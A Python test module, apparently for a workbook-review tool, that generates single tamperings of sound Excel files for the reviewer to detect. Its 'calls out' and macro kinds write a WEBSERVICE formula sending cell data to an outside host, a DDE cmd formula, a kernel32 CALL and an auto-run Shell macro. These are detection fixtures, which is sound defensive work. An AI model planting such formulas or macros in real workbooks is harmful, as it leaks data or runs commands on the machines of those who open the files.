"""Single tamperings by their kinds, at random places of a sound workbook: each says where it ought to be seen."""

from __future__ import annotations

import random
import re
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from xml.etree import ElementTree as ET

from support.books import book
from support.compiled_macros import with_compiled
from support.tamper import MAIN, RELS, Tampered
from xl_jixiao.jobs import open_job
from xl_jixiao.review.examine import examine
from xl_jixiao.rules.typed import Kind
from xl_jixiao.sheet.edition import Edition
from xl_jixiao.sheet.plan import Computed, Entry, Jump, Label, Ref, Span, Visibility, column_letter
from xl_jixiao.sheet.vba import Module, vba_project
from xl_jixiao.sheet.vba_source import modules
from xl_jixiao.tables.catalogue import examples
from xl_jixiao.words import PROJECT, SUPERIOR, UNIT

FOLDER = Path(tempfile.gettempdir())


@dataclass(frozen=True)
class Sound:
    """A sound workbook of a bundled example, and what the review says of it."""

    form: str
    edition: Edition
    path: Path
    plan: object
    own: frozenset[tuple[str, str]]

    def places(self, kind: type, *, numeric: bool | None = None, hidden: bool = False) -> list[tuple[Ref, object]]:
        """The cells of a kind that show something."""
        found = []
        for sheet in self.plan.sheets:
            if (sheet.visibility is not Visibility.SHOWN) is not hidden:
                continue
            for one in sheet.cells:
                if not isinstance(one.content, kind) or isinstance(one.content, Jump):
                    continue
                value = shown(self.plan, one.content)
                if value in (None, "") or getattr(one.content, "varies", False):
                    continue
                if numeric is not None and isinstance(value, str) is numeric:
                    continue
                found.append((Ref(sheet.name, one.row, one.column), one))
        return found


def shown(plan, content):
    """What a cell shows."""
    return plan.shown_udf(content) if isinstance(content, Computed) else content.value


@cache
def sound(form: str, edition: Edition) -> Sound:
    """Made once."""
    job = open_job(form)
    answers = job.answers(examples()[form])
    path = book(form, edition, Path(folder(), f"{form}-{edition}{edition.suffix}"))
    plan = job.plan(answers, edition, job.evaluate(answers))
    own = frozenset((one.code, one.message) for one in examine(path).findings)
    assert not any(code == "JX627" for code, _ in own), "审不了的文件里什么也查不出"
    return Sound(form, edition, path, plan, own)


@cache
def folder() -> str:
    """Where workbooks are made; it goes when the program ends."""
    holder = tempfile.TemporaryDirectory()
    _HOLDERS.append(holder)
    return holder.name


_HOLDERS: list[tempfile.TemporaryDirectory[str]] = []
Where = tuple[str, str] | None
"""Sheet and cell where a tampering ought to be seen: cell "" for the sheet, both "" for the file. None: nothing here to tamper with."""

Deed = Callable[[Tampered, Sound, random.Random], Where]
KINDS: dict[str, Deed] = {}


def kind(name: str) -> Callable[[Deed], Deed]:
    """A kind of tampering by its name."""

    def known(deed: Deed) -> Deed:
        KINDS[name] = deed
        return deed

    return known


def pick(base: Sound, chance: random.Random, what: type | tuple, **how) -> tuple[Ref, object] | tuple[None, None]:
    """A cell at random."""
    found = base.places(what, **how)
    return chance.choice(found) if found else (None, None)


def at(ref: Ref) -> Where:
    """A cell."""
    return ref.sheet, ref.local


def other_number(value, chance):
    return float(value) + chance.choice((0.5, 1, 5, 10, -0.3)) if isinstance(value, str) is False else 99.5


def visible(base: Sound, chance: random.Random) -> str:
    return chance.choice([sheet.name for sheet in base.plan.sheets if sheet.visibility is Visibility.SHOWN])


# ---- values


def _value_kinds() -> None:
    for name, numeric, keep in (
        ("number typed over", True, False),
        ("text typed over", False, False),
        ("number cached", True, True),
        ("text cached", False, True),
    ):

        def deed(book, base, chance, numeric=numeric, keep=keep):
            ref, one = pick(base, chance, Computed, numeric=numeric)
            if ref is None:
                return None
            value = shown(base.plan, one.content)
            new = other_number(value, chance) if numeric else altered(value, chance)
            book.put(ref.sheet, ref.local, new, keep_formula=keep)
            return at(ref)

        KINDS[name] = deed


def altered(text: str, chance: random.Random) -> str:
    """A text that says something else."""
    digits = [match.start() for match in re.finditer(r"\d", text)]
    if digits and chance.random() < 0.7:
        where = chance.choice(digits)
        return text[:where] + str((int(text[where]) + 1) % 10) + text[where + 1 :]
    where = chance.randrange(len(text))
    return chance.choice((text[:where] + "不" + text[where:], text + "（已核实）", "优秀", text[: max(1, len(text) // 2)] + "。"))


_value_kinds()


@kind("same value typed over")
def same_value(book, base, chance):
    ref, one = pick(base, chance, Computed)
    value = shown(base.plan, one.content)
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value))
    return at(ref)


@kind("formula deleted")
def formula_deleted(book, base, chance):
    ref, _ = pick(base, chance, Computed)
    book.put(ref.sheet, ref.local)
    return at(ref)


@kind("another formula")
def another_formula(book, base, chance):
    ref, one = pick(base, chance, Computed)
    own = base.plan.formula(ref.sheet, one.content)
    value = shown(base.plan, one.content)
    texts = (
        ['"优秀"', f"IF(TRUE,{own},{own})", f'({own})&""', "A1"]
        if isinstance(value, str)
        else ["88+1", f"({own})+1", f"IF(TRUE,99,{own})", f"MAX({own},3)", "ROUND(99,2)"]
    )
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value), formula=chance.choice(texts))
    return at(ref)


@kind("constant changed")
def constant_changed(book, base, chance):
    ref, one = pick(base, chance, Label)
    value = one.content.value
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)


@kind("constant deleted")
def constant_deleted(book, base, chance):
    ref, _ = pick(base, chance, Label)
    book.put(ref.sheet, ref.local)
    return at(ref)


@kind("constant made a formula")
def constant_formula(book, base, chance):
    ref, one = pick(base, chance, Label)
    value = one.content.value
    if isinstance(value, str):
        book.put(ref.sheet, ref.local, value, formula='"' + value.replace('"', '""')[:200] + '"')
    else:
        book.put(ref.sheet, ref.local, float(value), formula=f"{float(value)}+0")
    return at(ref)


@kind("constant of a hidden sheet changed")
def hidden_constant(book, base, chance):
    ref, one = pick(base, chance, Label, hidden=True)
    value = one.content.value
    if ref is None or ref.sheet == "xlwings.conf" or (ref.row, ref.column) == (0, 0):
        return None
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)


@kind("entry made a formula")
def entry_formula(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    value = float(one.content.value)
    book.put(
        ref.sheet,
        ref.local,
        value,
        formula=chance.choice(
            (f"A1*0+{value}", f"IF(1,{value},0)", "'[别的.xlsx]Sheet1'!$A$1", f"SUM(Z1:Z9)+{value}", f"N({value})", f"{value + 1}-2")
        ),
    )
    return at(ref)


@kind("text entry made a formula")
def text_entry_formula(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=False)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, one.content.value, formula=f'T("{str(one.content.value)[:100]}")')
    return at(ref)


@kind("error value")
def error_value(book, base, chance):
    ref, _ = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, "#N/A", error=True)
    return at(ref)


@kind("true for a number")
def boolean_value(book, base, chance):
    ref, _ = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, True, keep_formula=True)
    return at(ref)


@kind("number as text")
def number_as_text(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, str(float(shown(base.plan, one.content)) + 1), keep_formula=True)
    return at(ref)


@kind("array formula")
def array_formula(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, 99.0, formula="SUM({90,9})")
    f = book.cell(ref.sheet, ref.local).find(f"{{{MAIN}}}f")
    f.set("t", "array")
    f.set("ref", ref.local)
    return at(ref)


# ---- names


def name_of(base, chance, kinds=Ref):
    names = [
        key
        for key, place in base.plan.names.items()
        if isinstance(place, kinds) and base.plan.sheet_by_name[place.sheet].visibility is Visibility.SHOWN
    ]
    return chance.choice(names) if names else None


def place_of(base, key):
    place = base.plan.names[key]
    return (place.sheet, place.local) if isinstance(place, Ref) else (place.sheet, f"{column_letter(place.left)}{place.top + 1}")


@kind("name led to another cell")
def name_elsewhere(book, base, chance):
    key = name_of(base, chance)
    other = name_of(base, chance)
    if key is None or key == other:
        return None
    book.name(key, base.plan.names[other].absolute)
    return place_of(base, key)


@kind("name led to a hidden sheet")
def name_hidden(book, base, chance):
    key = name_of(base, chance)
    if key is None:
        return None
    book.add_sheet("数", "veryHidden", A1=66)
    book.name(key, "'数'!$A$1")
    return place_of(base, key)


@kind("name made a constant or a formula")
def name_constant(book, base, chance):
    key = name_of(base, chance)
    if key is None:
        return None
    place = base.plan.names[key]
    book.name(
        key,
        chance.choice(
            (
                "=66",
                "66",
                '"优"',
                f"{place.absolute}*2",
                f"OFFSET({place.absolute},0,1)",
                'INDIRECT("A1")',
                f"IF(1,{place.absolute})",
                f"{place.absolute}:{place.absolute}",
                f"({place.absolute})",
                f"'[1]{place.sheet}'!{place.absolute.rpartition('!')[2]}",
            )
        ),
    )
    return place_of(base, key)


@kind("name of an area led elsewhere")
def area_elsewhere(book, base, chance):
    key = name_of(base, chance, Span)
    if key is None:
        areas = [key for key, place in base.plan.names.items() if isinstance(place, Span)]
        if not areas:
            return None
        key = chance.choice(areas)
    place = base.plan.names[key]
    book.name(key, Span(place.sheet, place.top, place.left + 1, place.bottom, place.right + 1).absolute)
    return place_of(base, key)


@kind("name overshadowed on a sheet")
def name_shadowed(book, base, chance):
    key = name_of(base, chance)
    if key is None:
        return None
    book.name(key, "66", sheet=visible(base, chance))
    return place_of(base, key)


@kind("name lost")
def name_lost(book, base, chance):
    used = [key for key in base.plan.names if isinstance(base.plan.names[key], Ref)]
    if not used:
        return None
    key = chance.choice(used)
    book.name(key, chance.choice((None, "#REF!")))
    return place_of(base, key)


@kind("cell cut and pasted elsewhere")
def cut(book, base, chance):
    refs = [(ref, one) for ref, one in base.places(Entry) if one.content.key in base.plan.names]
    if not refs:
        return None
    ref, _ = chance.choice(refs)
    book.carry(ref.sheet, ref.local, f"{column_letter(ref.column + 12)}{ref.row + 1}")
    return at(ref)


# ---- display


def _formats() -> None:
    numbers = (
        '"95.00"',
        ";;;",
        '0.00"5"',
        "0.00,",
        "[White]0.00",
        r"\9\5",
        '[=0]"";"99.00"',
        '[>1]"优";General',
        '"";"";""',
        "yyyy",
        '"已完成"',
        '0"0"',
        "# ##0,,",
        '0.00;"5";"5"',
        '"1"0.00',
        "??/100%",
        "[白色]General",
        "[Color 2]0.0",
        "[Color2]0",
        "00000000000000000000",
        "*9",
        '""',
        "@* ",
        "[$100]0",
        '[$-804]"9"0',
        "[$9-804]0",
        "!9!5",
        "上午/下午h",
        "[h]",
        '"△"',
        '0.00"分"_9;;',
        ".00;;",
        "-0.00",
    )
    texts = (
        '"优秀"',
        ";;;",
        '@"（已核）"',
        '0;0;0;"通过"',
        '"优";"优";"优";"优"',
        ';;;""',
        "[White]@",
        ";;;\\优",
        "@@",
        '"不"@',
        ";;; ",
        "*优@",
        ";;;[$优]",
    )
    for name, codes, numeric in (("number format of a number", numbers, True), ("number format of a text", texts, False)):

        def deed(book, base, chance, codes=codes, numeric=numeric):
            seen = [ref for ref, one in base.places((Computed, Label, Entry), numeric=numeric) if not (numeric and one.style == "hidden")]
            if not seen:
                return None
            ref, code = chance.choice(seen), chance.choice(codes)
            book.number_format(ref.sheet, ref.local, code)
            book.said = code
            return at(ref)

        KINDS[name] = deed


_formats()


@kind("decimals not shown")
def fewer_decimals(book, base, chance):
    refs = [(ref, one) for ref, one in base.places((Computed, Entry), numeric=True) if float(shown(base.plan, one.content)) * 10 % 10]
    refs = [
        (ref, one)
        for ref, one in refs
        if not base.plan.sheet_by_name[ref.sheet].by_place[ref.row, ref.column].style.endswith("rate")
        and abs(float(shown(base.plan, one.content))) > 1
    ]
    if not refs:
        return None
    ref, _ = chance.choice(refs)
    book.number_format(ref.sheet, ref.local, chance.choice(("0", "#,##0", "0_ ")))
    return at(ref)


def font(book, ref, change):
    def changed(xf, styles):
        fonts = styles.find(f"{{{MAIN}}}fonts")
        own = ET.fromstring(ET.tostring(fonts[int(xf.get("fontId", "0"))]))
        change(own)
        fonts.append(own)
        fonts.set("count", str(len(fonts)))
        xf.set("fontId", str(len(fonts) - 1))
        xf.set("applyFont", "1")

    book.style(ref.sheet, ref.local, changed)


def element(own, tag, **attributes):
    for old in own.findall(f"{{{MAIN}}}{tag}"):
        own.remove(old)
    ET.SubElement(own, f"{{{MAIN}}}{tag}", **attributes)


def somewhere(base, chance):
    """A cell of which something is seen: in a folded column no number is."""
    ref, one = pick(base, chance, (Computed, Label, Entry))
    while one.style == "hidden" and not isinstance(shown(base.plan, one.content), str):
        ref, one = pick(base, chance, (Computed, Label, Entry))
    return ref


def ground(base, ref):
    from xl_jixiao.sheet.looks import look

    style = base.plan.sheet_by_name[ref.sheet].by_place[ref.row, ref.column].style
    return str(look(style, editable=base.edition is not Edition.FINISHED).get("bg_color", "#FFFFFF"))[1:]


@kind("font of the ground's colour")
def white(book, base, chance):
    ref = somewhere(base, chance)
    colour = ground(base, ref)
    near = "".join(f"{max(0, int(colour[n : n + 2], 16) - chance.choice((0, 2, 8))):02X}" for n in (0, 2, 4))
    font(book, ref, lambda own: element(own, "color", rgb=f"FF{near}"))
    return at(ref)


@kind("white font by theme")
def white_theme(book, base, chance):
    ref = somewhere(base, chance)
    if ground(base, ref) not in ("FFFFFF", "FFF9D9", "F3F3F3"):
        return None
    font(
        book,
        ref,
        lambda own: element(
            own, "color", **chance.choice(({"theme": "0"}, {"indexed": "9"}, {"indexed": "1"}, {"theme": "0", "tint": "-0.05"}))
        ),
    )
    return at(ref)


@kind("tiny font")
def tiny(book, base, chance):
    ref = somewhere(base, chance)
    font(book, ref, lambda own: element(own, "sz", val=chance.choice(("1", "2", "3", "4"))))
    return at(ref)


@kind("font of symbols")
def symbols(book, base, chance):
    ref = somewhere(base, chance)
    font(book, ref, lambda own: element(own, "name", val=chance.choice(("Wingdings", "Webdings", "Symbol", "Wingdings 2", "Wingdings 3"))))
    return at(ref)


@kind("fill of the font's colour")
def dark_fill(book, base, chance):
    ref = somewhere(base, chance)

    def solid(fill):
        pattern = ET.SubElement(fill, f"{{{MAIN}}}patternFill", patternType="solid")
        ET.SubElement(pattern, f"{{{MAIN}}}fgColor", rgb="FF000000")

    blacked(book, ref, solid)
    return at(ref)


def blacked(book, ref, fill):
    """A fill of a cell's own, which `fill` makes, and a black font on it."""

    def changed(xf, styles):
        fills = styles.find(f"{{{MAIN}}}fills")
        fill(ET.SubElement(fills, f"{{{MAIN}}}fill"))
        fills.set("count", str(len(fills)))
        xf.set("fillId", str(len(fills) - 1))
        xf.set("applyFill", "1")

    book.style(ref.sheet, ref.local, changed)
    font(book, ref, lambda own: element(own, "color", rgb="FF000000"))


@kind("shown elsewhere in its cell")
def alignment(book, base, chance):
    ref = somewhere(base, chance)

    def changed(xf, styles):
        for old in xf.findall(f"{{{MAIN}}}alignment"):
            xf.remove(old)
        xf.insert(
            0,
            ET.Element(
                f"{{{MAIN}}}alignment",
                **chance.choice(({"horizontal": "fill"}, {"horizontal": "left", "indent": "200"}, {"horizontal": "left", "indent": "250"})),
            ),
        )
        xf.set("applyAlignment", "1")

    book.style(ref.sheet, ref.local, changed)
    return at(ref)


@kind("conditional format")
def conditional(book, base, chance):
    ref, one = pick(base, chance, (Computed, Label, Entry), numeric=True)
    if ref is None:
        return None
    if chance.random() < 0.5:
        book.conditional_format(ref.sheet, ref.local, "TRUE", number_format=chance.choice(('"95"', ";;;", '0"0"')))
    else:
        book.conditional_format(ref.sheet, ref.local, chance.choice(("TRUE", "1=1")), colour=ground(base, ref))
    return at(ref)


@kind("conditional fill of the font's colour")
def conditional_fill(book, base, chance):
    ref = somewhere(base, chance)
    book.conditional_format(ref.sheet, ref.local, "TRUE", colour="FF0000")
    look = book.tree("xl/styles.xml").find(f"{{{MAIN}}}dxfs")[-1]
    pattern = ET.SubElement(ET.SubElement(look, f"{{{MAIN}}}fill"), f"{{{MAIN}}}patternFill")
    ET.SubElement(pattern, f"{{{MAIN}}}bgColor", rgb="FFFF0000")
    return at(ref)


def drawn_over(book, ref, what):
    """The element of a conditional format that draws over a cell: a data bar, a colour scale."""
    book.conditional_format(ref.sheet, ref.local, "TRUE")
    rule = next(
        one for one in book.sheet(ref.sheet).iter(f"{{{MAIN}}}cfRule") if one.get("priority") == "1" and one.get("type") == "expression"
    )
    for child in list(rule):
        rule.remove(child)
    del rule.attrib["dxfId"]
    rule.set("type", what)
    return ET.SubElement(rule, f"{{{MAIN}}}{what}")


@kind("data bar or icons instead of the number")
def data_bar(book, base, chance):
    ref, _ = pick(base, chance, (Computed, Entry), numeric=True)
    if ref is None:
        return None
    bar = drawn_over(book, ref, "dataBar")
    bar.set("showValue", "0")
    ET.SubElement(bar, f"{{{MAIN}}}cfvo", type="min")
    ET.SubElement(bar, f"{{{MAIN}}}cfvo", type="max")
    ET.SubElement(bar, f"{{{MAIN}}}color", rgb="FF638EC6")
    return at(ref)


@kind("merged over")
def merged(book, base, chance):
    refs = [(ref, one) for ref, one in base.places((Computed, Label, Entry)) if ref.column > 0 and one.rows == one.columns == 1]
    taken = {
        (sheet.name, row, column)
        for sheet in base.plan.sheets
        for top, left, bottom, right in sheet.rectangles
        if (top, left) != (bottom, right)
        for row in range(top, bottom + 1)
        for column in range(left, right + 1)
    }
    refs = [(ref, one) for ref, one in refs if (ref.sheet, ref.row, ref.column - 1) not in taken]
    if not refs:
        return None
    ref, _ = chance.choice(refs)
    book.merge(ref.sheet, f"{column_letter(ref.column - 1)}{ref.row + 1}:{ref.local}")
    return at(ref)


@kind("part of a text white")
def rich_text(book, base, chance):
    ref, one = pick(base, chance, Label, numeric=False)
    cell = book.cell(ref.sheet, ref.local)
    for child in list(cell):
        cell.remove(child)
    cell.set("t", "inlineStr")
    text = one.content.value
    inside = ET.SubElement(cell, f"{{{MAIN}}}is")
    half = len(text) // 2
    for piece, white_ in ((text[:half], False), (text[half:], True)):
        run = ET.SubElement(inside, f"{{{MAIN}}}r")
        marks = ET.SubElement(run, f"{{{MAIN}}}rPr")
        if white_:
            ET.SubElement(marks, f"{{{MAIN}}}sz", val="11")
            ET.SubElement(marks, f"{{{MAIN}}}color", rgb="FFFFFFFF")
        ET.SubElement(run, f"{{{MAIN}}}t").text = piece
    return at(ref)


# ---- sizes and hidden things


def row_of(book, ref):
    data = book.sheet(ref.sheet).find(f"{{{MAIN}}}sheetData")
    return next(one for one in data if one.get("r") == str(ref.row + 1))


@kind("row of no height")
def low_row(book, base, chance):
    ref = somewhere(base, chance)
    row = row_of(book, ref)
    if row.get("hidden"):
        return None
    row.set("ht", chance.choice(("0", "0.75", "1", "2")))
    row.set("customHeight", "1")
    return ref.sheet, ""


@kind("row hidden")
def row_hidden(book, base, chance):
    ref = somewhere(base, chance)
    row = row_of(book, ref)
    if row.get("hidden"):
        return None
    row.set("hidden", "1")
    return ref.sheet, ""


@kind("column hidden or of no width")
def column_hidden(book, base, chance):
    ref = somewhere(base, chance)
    columns = book.sheet(ref.sheet).find(f"{{{MAIN}}}cols")
    for one in [] if columns is None else columns:
        if int(one.get("min")) <= ref.column + 1 <= int(one.get("max")):
            if one.get("hidden") or one.get("min") != one.get("max"):
                return None
            how = chance.choice(
                ({"hidden": "1"}, {"width": "0"}, {"width": "0.1", "customWidth": "1"}, {"width": "0.5", "customWidth": "1"})
            )
            for key, value in how.items():
                one.set(key, value)
            return ref.sheet, ""
    return None


@kind("rows hidden by default")
def zero_height(book, base, chance):
    sheet = visible(base, chance)
    form = book.sheet(sheet).find(f"{{{MAIN}}}sheetFormatPr")
    if form is None:
        return None
    heights = [one for one in book.sheet(sheet).iter(f"{{{MAIN}}}row") if one.get("ht") is None]
    if not heights:
        return None
    form.set("zeroHeight", "1")
    for one in heights:
        one.set("hidden", "1")
    return sheet, ""


# ---- what lies over


@kind("text box over a cell")
def text_box(book, base, chance):
    ref = somewhere(base, chance)
    if ref.sheet == "得分分析":
        return None
    book.draw(ref.sheet, ref.local, text=chance.choice(("95", "优秀", "")))
    return at(ref)


@kind("picture over a cell")
def picture(book, base, chance):
    ref = somewhere(base, chance)
    if ref.sheet == "得分分析":
        return None
    book.draw(ref.sheet, ref.local, picture=True)
    return at(ref)


@kind("shape from outside over a cell")
def shape_from_outside(book, base, chance):
    """Its corner stands left of or above the printed area."""
    refs = [ref for ref, _ in base.places((Computed, Label)) if ref.sheet != "得分分析"]
    ref = chance.choice(refs)
    book.draw(ref.sheet, ref.local, text="95")
    part = [name for name in book.parts if name.startswith("xl/drawings/drawing9")][-1]
    text = book.parts[part].decode()
    text = text.replace(
        "<xdr:twoCellAnchor>", '<xdr:absoluteAnchor><xdr:pos x="1000" y="1000"/><xdr:ext cx="9999999" cy="9999999"/>'
    ).replace("</xdr:twoCellAnchor>", "</xdr:absoluteAnchor>")
    text = re.sub(r"<xdr:(from|to)>.*?</xdr:\1>", "", text)
    book.parts[part] = text.encode()
    return ref.sheet, ""


@kind("grouped shapes over a cell")
def grouped(book, base, chance):
    ref = somewhere(base, chance)
    if ref.sheet == "得分分析":
        return None
    book.draw(ref.sheet, ref.local, text="95")
    part = [name for name in book.parts if name.startswith("xl/drawings/drawing9")][-1]
    text = book.parts[part].decode()
    book.parts[part] = (
        text.replace("<xdr:sp ", "<xdr:grpSp><xdr:nvGrpSpPr/><xdr:grpSpPr/><xdr:sp ").replace("</xdr:sp>", "</xdr:sp></xdr:grpSp>").encode()
    )
    return at(ref)


# ---- structure


@kind("sheet removed")
def removed(book, base, chance):
    names = [sheet.name for sheet in base.plan.sheets if sheet.name not in ("基础数据", "自评表", "xlwings.conf", "函数")]
    sheet = chance.choice(names)
    book.remove_sheet(sheet)
    return sheet, ""


@kind("sheet renamed")
def renamed(book, base, chance):
    sheet = visible(base, chance)
    book.rename_sheet(sheet, "新表")
    return "新表", ""


@kind("sheet hidden")
def sheet_hidden(book, base, chance):
    sheet = visible(base, chance)
    book.state(sheet, chance.choice(("hidden", "veryHidden")))
    return sheet, ""


@kind("sheet of another's name")
def swapped(book, base, chance):
    """Two sheets that trade their names."""
    names = [sheet.name for sheet in base.plan.sheets if sheet.visibility is Visibility.SHOWN]
    one, other = chance.sample(names, 2)
    for old, new in ((one, "临时"), (other, one), ("临时", other)):
        book.rename_sheet(old, new)
    return "", ""


@kind("sheet added")
def added(book, base, chance):
    book.add_sheet("附", chance.choice(("visible", "hidden", "veryHidden")), A1="95")
    return "附", ""


@kind("protection off")
def unprotected(book, base, chance):
    sheet = chance.choice([sheet.name for sheet in base.plan.sheets if sheet.protected and sheet.visibility is Visibility.SHOWN])
    book.unprotect(sheet)
    return sheet, ""


@kind("computed cell unlocked")
def unlocked(book, base, chance):
    ref, _ = pick(base, chance, Computed)

    def changed(xf, styles):
        for old in xf.findall(f"{{{MAIN}}}protection"):
            xf.remove(old)
        ET.SubElement(xf, f"{{{MAIN}}}protection", locked="0")
        xf.set("applyProtection", "1")

    book.style(ref.sheet, ref.local, changed)
    return ref.sheet, ""


@kind("row put in")
def inserted(book, base, chance):
    ref = somewhere(base, chance)
    book.move_rows(ref.sheet, ref.row + 1, chance.choice((1, 2, 3)))
    return ref.sheet, ""


@kind("row taken out")
def row_deleted(book, base, chance):
    ref = somewhere(base, chance)
    lost = {key for key, (there, one) in base.plan.placed.items() if (there.sheet, there.row) == (ref.sheet, ref.row)}
    for cell, own in base.places(Computed):
        if lost & depends(base, own.content):
            error(book, cell, "#REF!")
    delete_row(book, ref.sheet, ref.row + 1)
    return ref.sheet, ""


def depends(base, content) -> set[str]:
    """Every key a computed cell follows from."""
    found, waiting = set(), [content.expr]
    while waiting:
        for key in waiting.pop().names:
            if key not in found:
                found.add(key)
                if key in base.plan.trees:
                    waiting.append(base.plan.trees[key])
    return found


def error(book, ref, word):
    book.put(ref.sheet, ref.local, word, keep_formula=True, error=True)


def delete_row(book: Tampered, sheet: str, number: int) -> None:
    """A whole row deleted, as a program does it."""
    data = book.sheet(sheet).find(f"{{{MAIN}}}sheetData")
    for row in list(data):
        if row.get("r") == str(number):
            data.remove(row)
    merges = book.sheet(sheet).find(f"{{{MAIN}}}mergeCells")
    for one in [] if merges is None else list(merges):
        first, _, last = one.get("ref").partition(":")
        top, bottom = (int(re.sub("[^0-9]", "", part)) for part in (first, last))
        if top <= number <= bottom:
            merges.remove(one)
    for one in list(book.book.find(f"{{{MAIN}}}definedNames")):
        if re.fullmatch(rf"'?{re.escape(sheet)}'?!\$[A-Z]+\${number}", one.text or ""):
            one.text = "#REF!"
    book.move_rows(sheet, number + 1, -1)


@kind("values of two rows swapped")
def rows_swapped(book, base, chance):
    """The figures of two entries exchanged is a filing of its own; two constants exchanged is none."""
    sheets = {}
    for ref, one in base.places(Label, numeric=False):
        sheets.setdefault((ref.sheet, ref.column), []).append((ref, one))
    group = chance.choice([cells for cells in sheets.values() if len({one.content.value for _, one in cells}) > 1])
    (ref, one), (other, another) = chance.sample(group, 2)
    if one.content.value == another.content.value:
        return None
    book.put(ref.sheet, ref.local, another.content.value)
    book.put(other.sheet, other.local, one.content.value)
    return at(ref)


@kind("content in the form's blanks")
def outside(book, base, chance):
    sheets = [sheet for sheet in base.plan.sheets if sheet.visibility is Visibility.SHOWN and sheet.page.area]
    sheet = chance.choice(sheets)
    top, left, bottom, right = sheet.page.area
    covered = {
        (row, column)
        for one in sheet.cells
        for row in range(one.row, one.row + one.rows)
        for column in range(one.column, one.column + one.columns)
    }
    free = [(row, column) for row in range(top, bottom + 1) for column in range(left, right + 1) if (row, column) not in covered]
    if not free:
        return None
    row, column = chance.choice(free)
    ref = Ref(sheet.name, row, column)
    book.put(ref.sheet, ref.local, chance.choice(("加分5分", 100)))
    return at(ref)


# ---- the workbook


@kind("manual calculation")
def manual(book, base, chance):
    book.manual_calculation()
    return "", ""


@kind("precision as displayed")
def precision(book, base, chance):
    book.book.find(f"{{{MAIN}}}calcPr").set("fullPrecision", "0")
    return "", ""


@kind("1904 dates")
def dates_1904(book, base, chance):
    book.book.find(f"{{{MAIN}}}workbookPr").set("date1904", "1")
    return "", ""


@kind("iteration")
def iteration(book, base, chance):
    book.book.find(f"{{{MAIN}}}calcPr").set("iterate", "1")
    return "", ""


@kind("external link")
def external(book, base, chance):
    book.external_link()
    return "", ""


@kind("data connection")
def connection(book, base, chance):
    book.parts["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="c" type="5" refreshedVersion="6"><dbPr connection="Provider=x"/></connection></connections>'.encode()
    )
    book._type("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    book._relate("xl/workbook.xml", "connections", "connections.xml")
    return "", ""


@kind("embedded object")
def embedded(book, base, chance):
    sheet = visible(base, chance)
    book.parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    book._default("bin", "application/vnd.openxmlformats-officedocument.oleObject")
    key = book._relate(book.sheet_part(sheet), "oleObject", "../embeddings/oleObject1.bin")
    root = book.sheet(sheet)
    objects = ET.SubElement(root, f"{{{MAIN}}}oleObjects")
    own = ET.SubElement(objects, f"{{{MAIN}}}oleObject", progId="Package", shapeId="1025")
    own.set(f"{{{RELS}}}id", key)
    return "", ""


@kind("custom ribbon")
def ribbon(book, base, chance):
    book.parts["customUI/customUI14.xml"] = b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui"/>'
    relations = book.tree("_rels/.rels")
    ET.SubElement(
        relations,
        "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship",
        Id="rIdUi",
        Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        Target="customUI/customUI14.xml",
    )
    return "", ""


@kind("macro sheet")
def macro_sheet(book, base, chance):
    book.add_sheet("Macro1", "veryHidden", A1="=HALT()")
    relations = book.tree("xl/_rels/workbook.xml.rels")
    relations[-1].set("Type", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet")
    book.name("_xlnm.Auto_Open", "Macro1!$A$1")
    return "Macro1", ""


@kind("formula that calls out")
def calls_out(book, base, chance):
    ref, _ = pick(base, chance, Entry)
    if ref is None:
        return None
    book.put(
        ref.sheet,
        f"{column_letter(ref.column + 9)}{ref.row + 1}",
        0,
        formula=chance.choice(('_xlfn.WEBSERVICE("http://x.cn/"&A1)', "cmd|'/c calc'!A0", 'CALL("kernel32","x","J")')),
    )
    return "", ""


@kind("macros changed")
def macros_changed(book, base, chance):
    if "xl/vbaProject.bin" in book.parts:
        code = chance.choice(('Sub Auto_Open()\n    Shell "calc"\nEnd Sub', "Function Checked(x)\n    Checked = 100\nEnd Function"))
        own = [Module.sheet(sheet.code_name) for sheet in base.plan.sheets]
        kept = [
            Module.standard(key, text.partition("\r\n")[2])
            for key, text in modules(book.parts["xl/vbaProject.bin"]).items()
            if key.startswith("jx")
        ]
        book.macros(vba_project([Module.workbook(""), *own, *kept, Module.standard("extra", code)]))
    else:
        book.macros(Tampered(sound(base.form, Edition.ADDIN).path).parts["xl/vbaProject.bin"])
    return "", ""


# ---- the view, the print, what is loaded with the file


def part_of(book, sheet, name, before):
    """An element of a sheet, made before those that follow it in the schema where there is none."""
    root = book.sheet(sheet)
    found = root.find(f"{{{MAIN}}}{name}")
    if found is None:
        found = ET.Element(f"{{{MAIN}}}{name}")
        follow = {f"{{{MAIN}}}{one}" for one in before}
        root.insert(next((at for at, one in enumerate(root) if one.tag in follow), len(root)), found)
    return found


BEHIND_FOOTER = ("rowBreaks", "colBreaks", "drawing", "legacyDrawing", "legacyDrawingHF", "picture", "oleObjects", "tableParts", "extLst")


@kind("head or foot of the page written on")
def page_head(book, base, chance):
    sheet = visible(base, chance)
    found = part_of(book, sheet, "headerFooter", BEHIND_FOOTER)
    for old in list(found):
        if chance.random() < 0.5:
            found.remove(old)
    tag = chance.choice(("oddHeader", "oddFooter", "firstHeader", "evenFooter"))
